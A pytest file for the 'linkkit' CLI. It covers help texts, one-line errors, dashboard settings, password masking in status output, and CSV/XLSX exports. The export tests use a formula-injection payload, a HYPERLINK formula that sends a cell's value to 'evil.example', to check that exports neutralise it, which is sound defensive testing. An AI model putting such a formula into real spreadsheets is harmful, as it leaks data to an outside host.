"""The ``linkkit`` command as a person meets it: options, one-line errors, JSON, exports, live mode without secrets."""

from __future__ import annotations

import argparse
import csv
import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
import requests

from linkkit import cli
from linkkit.cli import DashboardOptions, Stack, main, mask_url
from linkkit.config import Settings
from linkkit.crypto import TokenBox
from linkkit.export import LINK_INTERVAL_COLUMNS, write_table
from linkkit.linking import LinkService
from linkkit.models import Role
from linkkit.stack import _port_free
from linkkit.store import Store

MAPLE = "7494100000000000101"


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def assert_one_line_error(err: str) -> None:
    assert len(err.strip().splitlines()) == 1, err
    assert "Traceback" not in err


# --- the surface ------------------------------------------------------------------------------------------------


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["--version"])
    out = capsys.readouterr().out
    assert exit_info.value.code == 0
    assert out.startswith("linkkit ") and out.split()[1][0].isdigit()


def test_every_option_of_every_command_has_help() -> None:
    parser = cli._parser()
    parsers = [parser]
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            parsers.extend(action.choices.values())
    undocumented = [f"{p.prog} {'/'.join(a.option_strings) or a.dest}" for p in parsers for a in p._actions
                    if not isinstance(a, argparse._SubParsersAction) and a.dest != "help"
                    and not (a.help and a.help != argparse.SUPPRESS)]
    assert len(parsers) == 10  # linkkit + dashboard sandbox status verify export backup bench monitor access
    assert undocumented == []


@pytest.mark.parametrize("level", ["debug", "DEBUG", "Info", "warning"])
def test_log_level_is_case_insensitive(level: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                       secret_key: str, capsys: pytest.CaptureFixture[str]) -> None:
    live_registry(monkeypatch, tmp_path, secret_key)
    monkeypatch.setenv("LINKKIT_LOG_LEVEL", level)
    code, out, _ = run(capsys, "status")
    assert code == 0
    assert "mode: live" in out


def test_an_unknown_log_level_is_one_line(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
                                          ) -> None:
    monkeypatch.setenv("LINKKIT_LOG_LEVEL", "loud")
    code, _, err = run(capsys, "status")
    assert code == 1
    assert_one_line_error(err)
    assert "LINKKIT_LOG_LEVEL=loud" in err


def test_errors_are_one_line_and_debug_shows_the_traceback(monkeypatch: pytest.MonkeyPatch,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("LINKKIT_MODE", "nonsense")  # a bad configuration
    code, _, err = run(capsys, "verify", "--all")
    assert code == 1
    assert_one_line_error(err)
    assert "mode must be 'sandbox' or 'live'" in err
    code, _, err = run(capsys, "--debug", "verify", "--all")
    assert code == 1
    assert "Traceback" in err and "ConfigError" in err


# --- dashboard options --------------------------------------------------------------------------------------------


def _dashboard_args(*argv: str) -> argparse.Namespace:
    return cli._parser().parse_args(["dashboard", *argv])


def test_dashboard_options_come_from_flags_then_environment_then_linkkit_toml(monkeypatch: pytest.MonkeyPatch
                                                                              ) -> None:
    config = {"dashboard": {"ip": "0.0.0.0", "port": 9000, "base_url": "/lk", "sandbox": False,
                            "public_url": "https://toml.example/lk"}}
    options = DashboardOptions.resolve(_dashboard_args(), config)
    assert options == DashboardOptions(ip="0.0.0.0", port=9000, base_url="/lk",
                                       public_url="https://toml.example/lk", sandbox=False)
    monkeypatch.setenv("LINKKIT_PUBLIC_URL", "https://env.example/lk")
    assert DashboardOptions.resolve(_dashboard_args(), config).public_url == "https://env.example/lk"
    options = DashboardOptions.resolve(_dashboard_args("--port", "9100", "--public-url", "https://flag.example/x"),
                                       config)
    assert (options.port, options.public_url) == (9100, "https://flag.example/x")


def test_a_misspelt_dashboard_key_is_refused() -> None:
    with pytest.raises(cli.CliError) as error:
        DashboardOptions.resolve(_dashboard_args(), {"dashboard": {"prot": 9000}})
    assert "prot" in str(error.value)


def test_the_configured_public_url_reaches_the_kernels_unchanged() -> None:
    stack = Stack(Path("."), voila_port=9666, sandbox_port=None, base_url="lk", public_url="https://shop.example/lk/")
    assert stack.environment()["LINKKIT_PUBLIC_URL"] == "https://shop.example/lk"
    assert stack.dashboard_url == "https://shop.example/lk/voila/render/01_link_accounts.ipynb"
    assert stack.local_dashboard_url == "http://127.0.0.1:9666/lk/voila/render/01_link_accounts.ipynb"
    assert "--Voila.base_url=/lk/" in stack.voila_command()


def test_a_port_in_time_wait_after_ctrl_c_is_free_again() -> None:
    # The server closes first (as Voila does on Ctrl-C), so its side of the connection sits in TIME_WAIT.
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    port = listener.getsockname()[1]
    client = socket.create_connection(("127.0.0.1", port), timeout=5)
    conn, _ = listener.accept()
    conn.close()
    client.recv(1)
    client.close()
    listener.close()
    assert _port_free(port)


@pytest.mark.integration
@pytest.mark.slow
def test_behind_a_base_url_the_authorize_url_carries_the_configured_redirect_uri(
        sandbox_server: Any, tmp_path: Path, secret_key: str, monkeypatch: pytest.MonkeyPatch) -> None:
    port = cli.free_port()
    public = f"http://localhost:{port}/shop-links"  # not the address Voila binds: a proxy's, path prefix included
    env = {"LINKKIT_DATABASE_URL": f"sqlite:///{tmp_path / 'registry.sqlite3'}", "LINKKIT_SECRET_KEY": secret_key,
           "LINKKIT_MODE": "sandbox", "LINKKIT_SANDBOX_URL": sandbox_server.url}
    stack = Stack(cli.notebooks_dir(), voila_port=port, sandbox_port=None, env=env, quiet=True, preheat=False,
                  base_url="/shop-links/", public_url=public)
    # The kernels' settings are built from the environment the stack gives them.
    for name, value in stack.environment().items():
        if name.startswith("LINKKIT_"):
            monkeypatch.setenv(name, value)
    requests.post(f"{sandbox_server.url}/_sandbox/reset", json={}, timeout=10).raise_for_status()
    service = LinkService.from_settings(Settings.load())
    assert service.sandbox is not None
    start = service.begin_shop_authorization()
    service.complete_authorization(service.sandbox.consent(start.url, "maple_seller"))
    login = service.begin_authorization(MAPLE, Role.OFFICIAL)
    redirect_uri = parse_qs(urlsplit(login.url).query)["redirect_uri"][0]
    assert redirect_uri == f"{public}/voila/render/01_link_accounts.ipynb"
    with stack:  # and the wizard answers there, behind the base URL
        answer = requests.get(redirect_uri, timeout=60)
        assert answer.status_code == 200
        assert "jupyter-config-data" in answer.text
        assert requests.get(f"http://127.0.0.1:{port}/voila/render/01_link_accounts.ipynb",
                            timeout=30).status_code == 404


# --- read-only commands in live mode ------------------------------------------------------------------------------


def live_registry(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, secret_key: str) -> str:
    url = f"sqlite:///{tmp_path / 'registry.sqlite3'}"
    monkeypatch.setenv("LINKKIT_MODE", "live")
    monkeypatch.setenv("LINKKIT_DATABASE_URL", url)
    monkeypatch.setenv("LINKKIT_SECRET_KEY", secret_key)
    monkeypatch.setenv("LINKKIT_PUBLIC_URL", "https://shop.example/linkkit")
    monkeypatch.chdir(tmp_path)
    return url


def test_status_and_export_need_no_app_secrets_in_live_mode(monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                                            secret_key: str, capsys: pytest.CaptureFixture[str]
                                                            ) -> None:
    live_registry(monkeypatch, tmp_path, secret_key)
    code, out, err = run(capsys, "status", "--json")
    assert code == 0, err
    report = json.loads(out)
    assert report["mode"] == "live" and report["rows"] == []
    code, _, err = run(capsys, "export", str(tmp_path / "links.csv"))
    assert code == 0, err
    code, _, err = run(capsys, "verify", "--all")  # verifying talks to TikTok: that needs the secrets
    assert code == 1
    assert_one_line_error(err)
    assert "LINKKIT_CLIENT_KEY" in err


def test_status_never_prints_the_database_password(monkeypatch: pytest.MonkeyPatch,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    class Service:
        store = type("Registry", (), {"close": lambda self: None})()

        def health(self) -> dict[str, Any]:
            return {"mode": "live", "registry": "postgresql+psycopg://linkkit:s3cret-pw@db:5432/linkkit",
                    "shops": 0, "links": {}}

        def connected_shops(self) -> list[Any]:
            return []

    monkeypatch.setattr(cli, "_service", lambda **_: Service())
    for argv in (["status"], ["status", "--json"]):
        code, out, _ = run(capsys, *argv)
        assert code == 0
        assert "s3cret-pw" not in out
        assert "postgresql+psycopg://linkkit:***@db:5432/linkkit" in out


def test_mask_url_hides_only_the_password() -> None:
    assert mask_url("see postgresql://u:p%40ss@h/db and sqlite:///x.db") == "see postgresql://u:***@h/db and sqlite:///x.db"
    assert mask_url("https://user@host/x") == "https://user@host/x"


# --- exports ------------------------------------------------------------------------------------------------------


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [HOSTILE, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_would_run_as_a_formula_is_neutralised(tmp_path: Path, text: str) -> None:
    path = tmp_path / "t.csv"
    write_table([{"name": text, "amount": -5, "ratio": 1.5}], path, columns=["name", "amount", "ratio"])
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == ["'" + text, "-5", "1.5"]


def test_a_frame_is_neutralised_cell_by_cell_and_numbers_kept() -> None:
    import pandas as pd

    from linkkit.export import neutralise_frame

    frame = pd.DataFrame({"display_name": [HOSTILE, "Maple"], "gmv": [-5.0, 10.0],
                          "username": pd.Series(["@x", "y"], dtype="string")})
    out = neutralise_frame(frame)
    assert list(out["display_name"]) == ["'" + HOSTILE, "Maple"]
    assert list(out["username"]) == ["'@x", "y"]
    assert list(out["gmv"]) == [-5.0, 10.0] and out["gmv"].dtype == frame["gmv"].dtype
    assert frame["display_name"][0] == HOSTILE, "the caller's frame is left as it was"


def test_xlsx_is_a_real_workbook_with_neutralised_text_and_numbers_kept(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "t.xlsx"
    write_table([{"name": HOSTILE, "amount": -5, "plain": "Maple"}], path, columns=["name", "amount", "plain"])
    sheet = load_workbook(path).active
    assert [c.value for c in sheet[1]] == ["name", "amount", "plain"]
    assert [c.value for c in sheet[2]] == ["'" + HOSTILE, -5, "Maple"]
    assert sheet["B2"].data_type == "n"


@pytest.mark.parametrize("name", ["links.csv", "links.xlsx"])
def test_an_empty_export_keeps_its_columns(name: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                           secret_key: str, capsys: pytest.CaptureFixture[str]) -> None:
    from openpyxl import load_workbook

    live_registry(monkeypatch, tmp_path, secret_key)
    code, out, _ = run(capsys, "export", name)
    assert code == 0
    assert out.startswith("Wrote 0 link intervals")
    if name.endswith(".csv"):
        header = (tmp_path / name).read_text(encoding="utf-8").splitlines()
    else:
        header = [",".join(str(c.value) for c in next(load_workbook(tmp_path / name).active.iter_rows()))]
    assert header == [",".join(LINK_INTERVAL_COLUMNS)]


def test_export_refuses_an_unknown_extension_and_writes_nothing(monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                                                secret_key: str, capsys: pytest.CaptureFixture[str]
                                                                ) -> None:
    live_registry(monkeypatch, tmp_path, secret_key)
    code, _, err = run(capsys, "export", "links.txt")
    assert code == 1
    assert_one_line_error(err)
    assert "unknown file type .txt" in err
    assert not (tmp_path / "links.txt").exists()


def test_export_to_an_unwritable_path_is_one_line(monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                                                  secret_key: str, capsys: pytest.CaptureFixture[str]) -> None:
    live_registry(monkeypatch, tmp_path, secret_key)
    code, _, err = run(capsys, "export", str(tmp_path / "no" / "such" / "dir" / "links.xlsx"))
    assert code == 1
    assert_one_line_error(err)
    assert "Cannot write" in err


def test_bench_outside_the_repository_says_where_the_benchmarks_are(monkeypatch: pytest.MonkeyPatch,
                                                                    tmp_path: Path,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(cli, "PACKAGE_DIR", tmp_path / "site-packages" / "linkkit")
    code, _, err = run(capsys, "bench")
    assert code == 1
    assert_one_line_error(err)
    assert "benchmarks/ of the source repository" in err


# --- status, verify and export against the sandbox ---------------------------------------------------------------


@pytest.fixture
def linked(sandbox_server: Any, tmp_path: Path, secret_key: str, monkeypatch: pytest.MonkeyPatch
           ) -> Iterator[LinkService]:
    """Maple & Co with one Official and two Marketing links, bound in the emulated Seller Center."""
    requests.post(f"{sandbox_server.url}/_sandbox/reset", json={}, timeout=10).raise_for_status()
    url = f"sqlite:///{tmp_path / 'registry.sqlite3'}"
    for name, value in {"LINKKIT_MODE": "sandbox", "LINKKIT_SANDBOX_URL": sandbox_server.url,
                        "LINKKIT_DATABASE_URL": url, "LINKKIT_SECRET_KEY": secret_key}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(tmp_path)
    settings = Settings.load()
    service = LinkService(settings, Store(url, TokenBox(secret_key)))
    assert service.sandbox is not None
    start = service.begin_shop_authorization()
    service.complete_authorization(service.sandbox.consent(start.url, "maple_seller"))
    usernames = ["maple.official", "maple.deals", "maple.studio"]
    for role, username in zip((Role.OFFICIAL, Role.MARKETING, Role.MARKETING), usernames, strict=True):
        begin = service.begin_authorization(MAPLE, role)
        result = service.complete_authorization(service.sandbox.consent(begin.url, username))
        assert result.link is not None
        service.sandbox.send_invitation(result.link.id)
        service.sandbox.accept_invitation(result.link.id)
        service.verify(result.link.id)  # Seller Center's binding seen: the link has its interval
    yield service
    service.store.close()


@pytest.mark.integration
def test_status_json_has_one_row_per_link(linked: LinkService, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "status", "--json")
    assert code == 0
    rows = json.loads(out)["rows"]
    assert sorted(row["link_id"] for row in rows) == sorted(link.id for link in linked.links())
    assert {row["role"] for row in rows} == {"official", "marketing"}
    assert all(row["shop_id"] == MAPLE and row["username"] for row in rows)


@pytest.mark.integration
def test_verify_all_json_and_plain_progress(linked: LinkService, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "verify", "--all", "--json")
    report = json.loads(out)
    assert report["verified"] == 3
    assert [row["link_id"] for row in report["links"]] == [link.id for link in linked.links()]
    assert code == (1 if report["failing"] else 0)
    code, out, err = run(capsys, "verify", "--all")
    progress = [line for line in err.splitlines() if line.startswith("verified ")]
    assert [line.split()[1].rstrip(":") for line in progress] == ["1/3", "2/3", "3/3"]
    assert "\r" not in err  # not a terminal: plain lines


@pytest.mark.integration
def test_verify_all_runs_links_concurrently_within_the_bound(linked: LinkService, monkeypatch: pytest.MonkeyPatch,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    running = 0
    peak = 0
    lock = threading.Lock()
    real_verify = LinkService.verify

    def verify(self: LinkService, link_id: int) -> Any:
        nonlocal running, peak
        with lock:
            running += 1
            peak = max(peak, running)
        try:
            time.sleep(0.3)
            return real_verify(self, link_id)
        finally:
            with lock:
                running -= 1

    monkeypatch.setattr(LinkService, "verify", verify)
    run(capsys, "verify", "--all", "--workers", "2")
    assert peak == 2
    run(capsys, "verify", "--all", "--workers", "1")
    assert peak == 2  # unchanged: one at a time never exceeds it


@pytest.mark.integration
def test_export_writes_the_links(linked: LinkService, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "export", "links.csv")
    assert code == 0
    with (tmp_path / "links.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 3 and out.startswith("Wrote 3 link intervals")
    assert list(rows[0]) == list(LINK_INTERVAL_COLUMNS)


def test_an_export_that_fails_half_way_leaves_the_earlier_file_as_it_was(tmp_path: Path,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    import errno

    from linkkit import export

    path = tmp_path / "links.csv"
    write_table([{"name": "yesterday"}], path, columns=["name"])
    before = path.read_bytes()
    real_writer = export.csv.writer

    class DiskFullHalfWay:  # the header goes to disk, then the disk is full
        def __init__(self, handle: Any) -> None:
            self.handle = handle
            self.inner = real_writer(handle)

        def writerow(self, row: Any) -> None:
            self.inner.writerow(row)
            self.handle.flush()

        def writerows(self, rows: Any) -> None:
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(export.csv, "writer", DiskFullHalfWay)
    with pytest.raises(OSError) as error:
        write_table([{"name": "today"}], path, columns=["name"])
    assert error.value.errno == errno.ENOSPC
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["links.csv"], "no partial file beside it"


def test_only_the_composition_root_asks_which_mode_it_is() -> None:
    package = Path(cli.__file__).resolve().parent
    asking = sorted(str(p.relative_to(package)) for p in package.rglob("*.py") if "is_sandbox" in p.read_text())
    assert asking == ["config.py", "linking/compose.py"]  # the definition, and the one place that decides


def test_the_dashboard_asks_the_composition_root_whether_to_start_the_sandbox() -> None:
    from linkkit.linking.compose import mode_label, sandbox_needed

    sandbox = Settings(mode="sandbox")
    live = Settings(mode="live", public_url="https://shop.example/lk")
    assert (sandbox_needed(sandbox), sandbox_needed(live)) == (True, False)
    assert mode_label(sandbox).startswith("sandbox mode") and mode_label(live) == "live"


def test_a_commands_warnings_are_shown_when_it_succeeds_and_dropped_when_it_fails(
        monkeypatch: pytest.MonkeyPatch, tmp_path: Path, secret_key: str, capsys: pytest.CaptureFixture[str]) -> None:
    import logging

    live_registry(monkeypatch, tmp_path, secret_key)
    outcome: dict[str, Exception | None] = {"raise": None}

    def status(service: Any, args: argparse.Namespace) -> int:
        logging.getLogger("linkkit.test").warning("the sandbox's clock was slow to answer")
        if outcome["raise"] is not None:
            raise outcome["raise"]
        return 0

    monkeypatch.setattr(cli, "_status", status)
    code, _, err = run(capsys, "status")
    assert code == 0
    assert "WARNING:linkkit.test:the sandbox's clock was slow to answer" in err
    outcome["raise"] = cli.CliError("The registry is somewhere else.")
    code, _, err = run(capsys, "status")
    assert code == 1
    assert err == "linkkit status: The registry is somewhere else.\n"
    code, _, err = run(capsys, "--debug", "status")
    assert "slow to answer" in err and "Traceback" in err
